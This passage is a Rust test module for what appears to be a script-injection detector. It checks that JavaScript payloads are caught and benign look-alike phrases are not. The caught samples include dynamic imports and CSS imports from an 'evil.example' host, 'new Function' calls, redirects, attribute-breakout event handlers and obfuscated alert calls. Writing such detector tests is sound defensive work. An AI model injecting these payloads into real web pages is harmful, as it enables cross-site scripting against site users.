            "import { sayHi, sayBye } from \"./greeting.js\";",
            "import * as m from '//evil.example/m.js'",
            "import x from `/x.js`",
            "import('https://evil.example/x.js')",
            "1;import(\"/a\")",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "I had to import it from 'Germany'",
            "import { useState } from 'react'",
            "imported from \"Italy/Spain\"",
            "import duties from the EU",
            "important: from 'a/b'",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn script_gadgets_without_markup() {
        for a in [
            "(![]+[])[+!+[]]",
            "![]+[]",
            "Function(\"a\")()",
            "new Function ('alert(1)')",
            "location.href='//evil.example'",
            "@import url(//evil.example/x.css)",
            "window.onerror=alert;throw 1",
            "x=document.createElement('script')",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "[] () !",
            "this function (the main one) works",
            "the location.of the shop",
            "I import (from Italy)",
            "read the docs.online=yes",
            "Dysfunction('x')",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn unknown_event_names_in_an_attribute_breakout() {
        for a in [
            "  onabcdefgh= ",
            "\" onfoobar=x",
            "' onwebkitthing=alert(1)",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "status online=1",
            "x onion=3",
            "sale once=twice",
            "\"onboarding= done",
            "a onabc=1",
            "x.onfoobar=1",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn globals_reached_by_name_and_base64_decoders() {
        for a in [
            "atob('YWxlcnQoMSk=')",
            "globalThis['alert'](1)",
            "parent['al'+'ert'](1)",
            "frames['x']",
            "data:text/javascript,alert(1)",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "my parent [in law] loved it",
            "frames [black] 2 pack",
            "a tob (yellow)",
            "the text/javascript MIME type (data)",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }
}
